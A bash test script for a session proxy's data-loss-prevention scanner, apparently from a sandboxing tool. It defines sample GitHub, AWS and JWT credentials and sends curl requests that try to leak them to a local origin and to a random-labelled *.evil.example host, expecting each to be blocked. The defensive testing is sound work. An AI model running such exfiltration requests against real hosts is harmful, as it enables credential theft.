#!/usr/bin/env bash
# DLP in the session proxy (issue 11 in issue 10's layers, ADR 0264): the
# supervisor sets the scanner up when it starts the proxy, with the user's
# real secrets it can see (its credential-named variables, the credential
# files under $HOME); every request of a layered client is scanned, each
# connection under its layer set: DLP is off only when every layer of the
# set turns it off, and a credential goes to a host only when every layer
# allows it there. Real supervisor, real curl, a local HTTPS origin (the
# test CA trusted as in session_proxy.sh: a private mount namespace where
# the host's bundle holds it).
if [ -f "${CAN_SRCDIR}/test/lib.sh" ]; then . "${CAN_SRCDIR}/test/lib.sh"; else . "${CAN_SRCDIR}/lib.sh"; fi
. "$CAN_SRCDIR/test/proxy_lib.sh"
pl_tls_enter "session DLP" "" "curl" host.canister.local:srv
if pl_ns_root; then pl_tls_trust; fi
D=${CAN_PL_DIR:-.}
t_drop_to_user "$CAN_SRCDIR/test/proxy_lib.sh" "$CAN_SRCDIR/test/proxy_server.py" \
	"$CAN_SRCDIR/test/session_lib.sh" "$D/tca.pem" "$D/srv.pem" "$D/srv.key"
CERTS=$PWD
. "$CAN_SRCDIR/test/session_lib.sh"
session_setup cansdlp
cp "$CERTS/proxy_server.py" "$TOP/srv.py"
PIDS=()
trap 'kill "${PIDS[@]}" 2>/dev/null; rm -rf "$TOP"' EXIT
python3 "$TOP/srv.py" serve "$TOP/o.port" "$TOP/o.log" "$CERTS/srv.pem" "$CERTS/srv.key" &
PIDS+=($!)
for _ in $(seq 100); do [ -s "$TOP/o.port" ] && break; sleep 0.05; done
OPORT=$(cat "$TOP/o.port")
U=https://host.canister.local:$OPORT
export OPORT U CERTS

# The user's secrets, in the supervisor's environment: a GitHub token with
# a valid checksum (the detector table's sample) and a value no detector
# knows (only the user-secret list can catch it); GHP2, a token of the
# same format that is not the user's (the detector catches it).
GHP=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 GHP2=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
REAL=quartz-Velvet-harbor-7731-Pinecone
AWS=AKIAKZOF2YI45MAYV5UN
JWT=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c
RND=x7k2q9m4ab.p3v8n1z6w0.evil.example
export AWS JWT RND GHP2

# Layers: A (the project) scanned by default; F (off) says enabled =
# false, F/sub (F and FS) leaves it on; K allows credentials to the
# origin, K/sub (K and KS) does not.
A=$P
F=$TOP/nodlp
FS=$F/sub
K=$TOP/cred
KS=$K/sub
mkdir -p "$FS" "$KS"
net='[network]\negress = "proxy-only"\nallow_host_loopback = true\n\n[[host]]\ndomain = "*.evil.example"\n'
printf "$net" >"$TOP/a.toml"
printf "$net"'\n[network.dlp]\nenabled = false\n' >"$TOP/f.toml"
printf '[network]\negress = "proxy-only"\nallow_host_loopback = true\n\n[[host]]\ndomain = "host.canister.local"\nallow_credentials = true\n' >"$TOP/k.toml"
for l in a:"$A" f:"$F" fs:"$FS" k:"$K" ks:"$KS"; do
	r=${l%%:*}
	[ "$r" = fs ] && r=a
	[ "$r" = ks ] && r=a
	printf 'use canister -r %s/%s.toml\n' "$TOP" "$r" >"${l#*:}/.envrc"
done
export A F FS K KS

# req TAG CURL-ARGS: "TAG CODE" (the final answer's status: a tunnel's
# "200 Connection established" is not it) and "TAG error E" for an
# x-canister-error field.
HELPERS=$SESSION_HELPERS'
up() { for d in "$A" "$F" "$FS" "$K" "$KS"; do declare_layer "$d"; wait_state "^layer [a-z]* $d	" && approve "$d" || echo "APPROVE-FAILED $d"; done; wait_state "^proxy 127.0.0.1:" || echo NO-PROXY; }
penv() { eval "$("$CAN" status --env)"; }
req() { tag=$1; shift; curl -sS -m 20 -D "$TOP/h.txt" -o /dev/null -w "$tag %{http_code}\n" "$@" 2>&1; tr -d "\r" <"$TOP/h.txt" | sed -n "s/^x-canister-error: \(.*\)/$tag error \1/p"; }
'
sess() { GITHUB_TOKEN=$GHP MY_SERVICE_TOKEN=$REAL t_run "$CAN" session -- bash -c "$HELPERS$1"; printf '%s\n' "$T_ERR" >>"$TOP/all.err"; }

python3 -c "import gzip,sys; sys.stdout.buffer.write(gzip.compress(('{\"t\":\"%s\"}' % sys.argv[1]).encode()))" \
	"$REAL" >"$TOP/secret.gz"
B64=$(printf '%s' "$REAL" | base64 -w0)
export B64

# --- one layer, DLP on by default ---
sess 'up; cd "$A"; penv
req honest -H "Content-Type: application/json" -d "{\"hello\":\"world\"}" "$U/echo/honest"
req raw -H "X-Data: $MY_SERVICE_TOKEN" "$U/leak/raw"
req gh -H "Authorization: token $GITHUB_TOKEN" "$U/leak/gh"
req gh2 -H "Authorization: token $GHP2" "$U/leak/gh2"
req b64 "$U/leak/b64?d=$B64"
req gzip -H "Content-Encoding: gzip" --data-binary @"$TOP/secret.gz" "$U/leak/gzip"
req aws -H "X-Key: $AWS" "$U/leak/aws"
req rnd "http://$RND/x"'
t_nogrep "the layers are approved and the proxy starts" "APPROVE-FAILED|NO-PROXY" "$T_OUT"
t_grep "an honest JSON request through the session proxy passes" "^honest 200$" "$T_OUT"
t_grep "... and reaches the origin" "^BODY /echo/honest " "$(cat "$TOP/o.log")"
for w in raw gh gh2 b64 gzip aws rnd; do
	t_grep "$w: refused (403)" "^$w 403$" "$T_OUT"
	t_grep "... with x-canister-error: dlp-blocked" "^$w error dlp-blocked$" "$T_OUT"
done
# Inside the terminated tunnel the refusal line names host:port, the
# detector and where it was found (the path is not logged).
L='refused (GET|POST) host\.canister\.local:[0-9]+ \(dlp-blocked\): dlp:'
t_grep "the supervisor's log names the user-secret list for the raw value" \
	"$L user-secret \(env MY_SERVICE_TOKEN\) in header x-data" "$T_ERR"
t_grep "... the same for the GitHub token of its environment" \
	"$L user-secret \(env GITHUB_TOKEN\) in header authorization" "$T_ERR"
t_grep "... the GitHub detector for another token" "$L github-pat-classic in header authorization" "$T_ERR"
t_grep "... and its hint is the session's way out, not env_passthrough" \
	"user-secret \(env MY_SERVICE_TOKEN\) in header x-data.*only \[network\.dlp\] enabled = false in every layer" "$T_ERR"
t_grep "... the base64 layer" "$L user-secret \(env MY_SERVICE_TOKEN\) in url .*after base64" "$T_ERR"
t_grep "... gzip" "refused POST .*user-secret \(env MY_SERVICE_TOKEN\) in body .*after gzip" "$T_ERR"
t_grep "... the AWS detector" "$L aws-access-key-id in header x-key" "$T_ERR"
t_grep "... random labels" "labels look random" "$T_ERR"
t_nogrep "no secret in the supervisor's log" "$REAL|$GHP|$GHP2|$B64|$AWS|$JWT" "$T_ERR"
t_nogrep "the origin saw none of the refused requests" "/leak/" "$(cat "$TOP/o.log")"

# --- the set: off only when every layer says so; credentials only where every layer allows ---
sess 'up; cd "$F"; penv
req off -H "X-Key: $AWS" "$U/hello"
req offpost -H "Content-Type: application/json" -d "{\"k\":\"$AWS\"}" "$U/echo/offpost"
req offrnd "http://$RND/x"
cd "$FS"; req both -H "X-Key: $AWS" "$U/hello"
cd "$K"; req jwt -H "Authorization: Bearer $JWT" "$U/hello"
cd "$KS"; req jwtsub -H "Authorization: Bearer $JWT" "$U/hello"'
t_grep "a layer whose recipe turns DLP off: an AWS key passes" "^off 200$" "$T_OUT"
t_grep "... and a JSON body carrying it passes" "^offpost 200$" "$T_OUT"
t_grep "... and reaches the origin" "^BODY /echo/offpost " "$(cat "$TOP/o.log")"
t_grep "... and the random name is not refused by DLP" "^offrnd [0-9]+$" "$T_OUT"
t_nogrep "... (not by DLP)" "^offrnd error dlp-blocked$" "$T_OUT"
t_grep "in it and a sub-layer that leaves DLP on: refused" "^both 403$" "$T_OUT"
t_grep "a JWT to the host whose contract allows credentials passes" "^jwt 200$" "$T_OUT"
t_grep "... but not from a sub-layer whose recipe does not allow them" "^jwtsub 403$" "$T_OUT"
t_grep "... said with the detector" "$L jwt in header authorization" "$T_ERR"

t_nogrep "no sanitizer report from the supervisor" "ERROR: AddressSanitizer|runtime error:" "$(cat "$TOP/all.err")"
t_done
